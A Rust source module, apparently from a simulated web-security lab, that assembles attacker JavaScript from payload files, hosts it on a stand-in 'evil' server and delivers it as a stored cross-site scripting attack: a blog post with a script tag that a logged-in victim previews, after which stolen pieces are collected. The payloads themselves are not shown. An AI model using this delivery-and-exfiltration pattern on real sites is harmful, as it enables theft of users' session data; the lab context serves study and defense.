//! The attacker's scripts, and how one gets into a page: as a blog post that somebody previews.

use anyhow::Result;
use cloakroom_lab_report::Actor;
use serde_json::{Value, json};

use crate::person::does;
use crate::scene::Scene;
use crate::world::Served;

pub(super) const PRELUDE: &str = include_str!("../../payloads/prelude.js");
pub(super) const HARVEST: &str = include_str!("../../payloads/harvest.js");
pub(super) const HOOKS: &str = include_str!("../../payloads/hooks.js");

/// What a payload sends last, so that nobody has to guess whether more is coming.
pub(super) const DONE: &str = "done:";

/// A whole script: the way home, further parts, and what it does.
pub(super) fn script(scene: &Scene<'_>, parts: &[&str], main: &str) -> String {
    let loot = Value::String(scene.loot());
    let parts = parts.join("\n");
    format!(
        "(async () => {{\nconst LOOT = {loot};\n{PRELUDE}\n{parts}\ntry {{ {main} }} catch (error) {{ await send('note', String(error)); }}\nawait send('done', 'x');\n}})();"
    )
}

/// Publishes a script on the attacker's site and gives its address.
pub(super) fn publish(scene: &Scene<'_>, script: String) -> String {
    scene.world.evil.put("/x.js", Served::script(script));
    scene.evil("/x.js")
}

/// The attacker writes a blog post that holds a script; the victim, who is logged in, previews it in the running page.
pub(super) async fn deliver(scene: &mut Scene<'_>, script: String) -> Result<()> {
    let address = publish(scene, script);
    let row = if crate::world::own(scene.row).is_some() { "behind" } else { scene.row };
    let html = format!("<p>Ten tips for your savings</p><script src=\"{address}\"></script>");
    let id = scene.world.bank.write_post(row, &scene.thief.email, &html);
    scene.step(Actor::Attacker, "writes a blog post with a script in it", "");
    does(&scene.page, "preview", &[json!(id)]).await?;
    scene.step(Actor::Victim, "previews the post", "");
    Ok(())
}

/// The same, until the script says that it has done all it could; gives everything that it sent.
pub(super) async fn deliver_and_collect(scene: &mut Scene<'_>, script: String) -> Result<Vec<String>> {
    deliver(scene, script).await?;
    let loot = scene.world.evil.wait_loot(DONE).await?;
    scene.step(Actor::Attacker, "collects what the script sent", format!("{} pieces", loot.len() - 1));
    scene.hurried |= loot.iter().any(|piece| piece.starts_with("note:") && piece.contains("too late"));
    Ok(loot)
}
